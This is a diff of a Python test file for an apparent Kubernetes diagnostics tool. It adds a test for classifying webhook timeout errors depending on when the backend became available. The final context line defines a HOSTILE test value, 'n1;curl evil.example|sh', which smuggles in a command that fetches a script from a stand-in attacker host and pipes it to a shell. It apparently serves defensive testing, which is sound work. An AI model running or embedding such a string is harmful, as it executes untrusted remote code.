@@ -30,6 +30,7 @@ from tests.fakes.documents import (
     service,
     storage_class,
     thing,
+    unmade,
     waiting,
 )
 
@@ -334,6 +335,15 @@ def test_a_url_is_not_what_is_said_of_a_webhook() -> None:
     assert said_of(form.format("EOF")) == "EOF"
     assert said_of('failed calling webhook "h": Post https://a.b.svc:443/x?timeout=30s: x509: bad') == "x509: bad"
     assert said_of('failed calling webhook "h": no endpoints available') == "no endpoints available"
+
+
+def test_a_webhook_that_came_up_after_its_refusal_is_no_firewall() -> None:
+    text = 'failed calling webhook "h.example.com": failed to call webhook: Post "https://backend.kubeflow.svc:443/x?timeout=10s": context deadline exceeded'
+    for since, cause in (("2026-12-01T00:00:00Z", "webhook-passing"), ("2025-12-01T00:00:00Z", "webhook-unreachable")):
+        backend = deployment("backend", ready=1, conditions=[condition("Available", "True") | {"lastTransitionTime": since}])
+        (root,) = found([*unmade(text), hooks("h.example.com", "backend"), *service("backend", ready=True), backend])
+        assert root.vague is (cause == "webhook-passing")
+        assert ("firewalls" in root.waiting.hint) is not root.vague
 
 
 HOSTILE = "n1;curl evil.example|sh"
